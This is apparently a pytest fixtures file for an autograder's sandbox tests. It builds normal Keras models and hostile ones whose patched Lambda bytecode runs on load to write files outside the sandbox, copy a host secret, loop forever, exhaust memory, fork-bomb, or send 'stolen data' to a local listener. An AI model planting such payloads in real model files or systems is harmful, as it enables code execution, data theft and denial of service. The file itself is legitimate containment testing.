"""Models and fixtures for the sandbox tests: good models in every format the
grader meets, and hostile ones whose code tries to escape.

A hostile Lambda's code is never run on the host: each model is saved with an
identity Lambda and the saved file's config is then patched to carry the
marshalled bytecode of the hostile function, exactly as a student's file would.
"""

from __future__ import annotations

import base64
import gzip
import json
import marshal
import os
import socket
import struct
import subprocess
import threading
import zipfile
from pathlib import Path

import numpy as np
import pytest

REPO = Path(__file__).resolve().parents[1]
SHARED = REPO.parent / "shared"
BASE_IMAGE = "dl-autograder-base:bookworm"
MNIST_SHAPE = (28, 28, 1)
CLASSES = 10


# ------------------------------------------------------------- good models


def keras3_convnet(classes: int = CLASSES, input_shape=MNIST_SHAPE):
    import keras

    keras.utils.set_random_seed(7)
    return keras.Sequential([
        keras.Input(input_shape),
        keras.layers.Conv2D(8, 3, activation="relu"),
        keras.layers.MaxPooling2D(),
        keras.layers.Flatten(),
        keras.layers.Dropout(0.2),
        keras.layers.Dense(classes, activation="softmax"),
    ])


def keras3_augmented(input_shape=(32, 32, 3)):
    """A 6.2b-style model: a nested augmentation Sequential, dropout, logits out."""
    import keras

    keras.utils.set_random_seed(8)
    augmentation = keras.Sequential([keras.layers.RandomFlip("horizontal"), keras.layers.RandomRotation(0.1)],
                                    name="augmentation")
    inputs = keras.Input(input_shape)
    x = augmentation(inputs)
    x = keras.layers.Conv2D(8, 3, activation="relu")(x)
    x = keras.layers.Flatten()(x)
    x = keras.layers.Dropout(0.5)(x)
    outputs = keras.layers.Dense(CLASSES)(x)   # logits: the grader applies the softmax
    return keras.Model(inputs, outputs)


def tf_keras_convnet(classes: int = CLASSES, input_shape=MNIST_SHAPE, flat_input: bool = False):
    import tf_keras

    tf_keras.utils.set_random_seed(9)
    layers = [tf_keras.layers.Reshape(input_shape)] if flat_input else []
    return tf_keras.Sequential([
        tf_keras.Input((int(np.prod(input_shape)),) if flat_input else input_shape),
        *layers,
        tf_keras.layers.Conv2D(8, 3, activation="relu"),
        tf_keras.layers.Flatten(),
        tf_keras.layers.Dense(classes, activation="softmax"),
    ])


def tf_keras_lambda_model(input_shape=MNIST_SHAPE):
    import tf_keras

    return tf_keras.Sequential([
        tf_keras.Input(input_shape),
        tf_keras.layers.Lambda(lambda x: x),
        tf_keras.layers.Flatten(),
        tf_keras.layers.Dense(CLASSES, activation="softmax"),
    ])


def keras3_lambda_model(input_shape=MNIST_SHAPE):
    import keras

    return keras.Sequential([
        keras.Input(input_shape),
        keras.layers.Lambda(lambda x: x),
        keras.layers.Flatten(),
        keras.layers.Dense(CLASSES, activation="softmax"),
    ])


# ---------------------------------------------------------- hostile code


def hostile_bytecode(body: str) -> str:
    """base64 of a marshalled ``lambda x: (exec(body), x)[1]``: compiled here,
    never called here."""
    code = compile(f"lambda x: (exec({body!r}, {{}}), x)[1]", "<student>", "eval")
    function_code = next(c for c in code.co_consts if hasattr(c, "co_code"))
    return base64.encodebytes(marshal.dumps(function_code)).decode("ascii")


def sentinel_body(paths: list[str], secret: str, leak_to: str) -> str:
    """Write a sentinel to each path and copy a host secret into the output,
    ignoring every failure, so all attempts are made."""
    return (
        "import os\n"
        f"for path in {paths!r}:\n"
        "    try:\n"
        "        open(path, 'w').write('escaped')\n"
        "    except Exception:\n"
        "        pass\n"
        "try:\n"
        f"    open({leak_to!r}, 'w').write(open({secret!r}).read())\n"
        "except Exception:\n"
        "    pass\n"
    )


LOOP_BODY = "while True:\n    pass\n"
MEMORY_BODY = "hog = []\nwhile True:\n    hog.append(b'\\x01' * (64 << 20))\n"
FORK_BOMB_BODY = "import os\nwhile True:\n    os.fork()\n"


def network_body(port: int) -> str:
    return (
        "import socket\n"
        f"connection = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
        "connection.sendall(b'stolen data')\n"
    )


def patch_h5_lambda(path: Path, code: str) -> None:
    import h5py

    with h5py.File(path, "r+") as handle:
        config = json.loads(handle.attrs["model_config"])
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Lambda":
                layer["config"]["function"] = [code, None, None]
        handle.attrs["model_config"] = json.dumps(config)


def patch_keras_lambda(path: Path, code: str) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "Lambda":
            layer["config"]["function"]["config"]["code"] = code
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def hostile_h5(path: Path, body: str) -> Path:
    """A tf_keras (Keras 2 format) .h5 whose Lambda runs ``body`` when loaded."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tf_keras_lambda_model().save(path)
    patch_h5_lambda(path, hostile_bytecode(body))
    return path


def hostile_keras(path: Path, body: str) -> Path:
    """A Keras 3 .keras whose Lambda would run ``body`` if safe mode were off."""
    path.parent.mkdir(parents=True, exist_ok=True)
    keras3_lambda_model().save(path)
    patch_keras_lambda(path, hostile_bytecode(body))
    return path


def random_bytes(path: Path, size: int = 50_000) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(np.random.default_rng(1).integers(0, 256, size, dtype=np.uint8).tobytes())
    return path


# ----------------------------------------------------------------- helpers


class Listener:
    """A TCP listener on 127.0.0.1 that counts connections and bytes received."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.received = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            with connection:
                connection.settimeout(1)
                try:
                    self.received += connection.recv(1024)
                except OSError:
                    pass

    def __enter__(self) -> "Listener":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(5)
        self.server.close()


def read_idx(path: Path) -> np.ndarray:
    """An IDX file (MNIST's format), gzipped or not."""
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rb") as handle:
        data = handle.read()
    zero, dtype_code, ndim = struct.unpack(">HBB", data[:4])
    assert zero == 0 and dtype_code == 0x08, f"{path} is not an unsigned-byte IDX file"
    shape = struct.unpack(f">{ndim}I", data[4:4 + 4 * ndim])
    return np.frombuffer(data, dtype=np.uint8, offset=4 + 4 * ndim).reshape(shape)


# ---------------------------------------------------------------- fixtures


@pytest.fixture(scope="session")
def runtime_image() -> str:
    """The sandbox runtime image, built (base image by debootstrap, then the
    runtime) when missing. A few minutes the first time."""
    from grader.evaluate.engine import ensure_docker_engine
    from grader.evaluate.image import ImageBuildError, build_runtime_image
    from grader.evaluate.sandbox import DEFAULT_IMAGE

    if not ensure_docker_engine():
        pytest.skip("no Docker engine answers and none could be started")
    done = subprocess.run(["bash", str(REPO / "scripts" / "build-base-image.sh"), BASE_IMAGE],
                          capture_output=True, text=True)
    if done.returncode != 0:
        pytest.fail(f"building the base image failed:\n{done.stdout[-2000:]}\n{done.stderr[-2000:]}")
    try:
        return build_runtime_image(base_image=BASE_IMAGE, tag=DEFAULT_IMAGE, log=lambda _: None)
    except ImageBuildError as exc:
        pytest.fail(f"building the runtime image failed: {exc}")


@pytest.fixture(params=[pytest.param("docker", marks=pytest.mark.docker),
                        pytest.param("bwrap", marks=pytest.mark.bwrap)])
def sandbox(request):
    """Each real sandbox backend in turn; skipped with the reason when unavailable."""
    from grader.evaluate.bwrap_backend import BwrapSandbox
    from grader.evaluate.docker_backend import DockerSandbox

    if request.param == "docker":
        backend = DockerSandbox(image=request.getfixturevalue("runtime_image"))
    else:
        backend = BwrapSandbox()
    ok, why = backend.available()
    if not ok:
        pytest.skip(f"{request.param} sandbox unavailable: {why}")
    return backend


def sentinel_places(tmp_path: Path, token: str) -> list[str]:
    """Where an escaping model would leave a mark: the tests' own folder on the
    host, host-wide temp folders, root's home, the read-only mounts, and /tmp
    (a private tmpfs in the sandbox)."""
    return [
        str(tmp_path / f"{token}-tmp-path"),
        f"/var/tmp/{token}-var-tmp",
        f"/root/{token}-home",
        f"/tmp/{token}-tmp",
        f"/submission/{token}-submission",
        f"/inputs/{token}-inputs",
        f"/job/{token}-job",
        f"/output/{token}-output",
    ]


def host_sentinels(tmp_path: Path, token: str, output_dir: Path) -> list[Path]:
    """Sentinel files that reached the host anywhere but the output folder."""
    found = [path for path in tmp_path.rglob(f"*{token}*") if output_dir not in path.parents]
    for folder in ("/var/tmp", "/root", "/tmp", "/submission", "/inputs", "/job", "/output"):
        found += list(Path(folder).glob(f"{token}*"))
    return found


def write_secret(tmp_path: Path) -> Path:
    secret = tmp_path / "host-secret.txt"
    secret.write_text("TOP SECRET host file")
    os.chmod(secret, 0o644)
    return secret
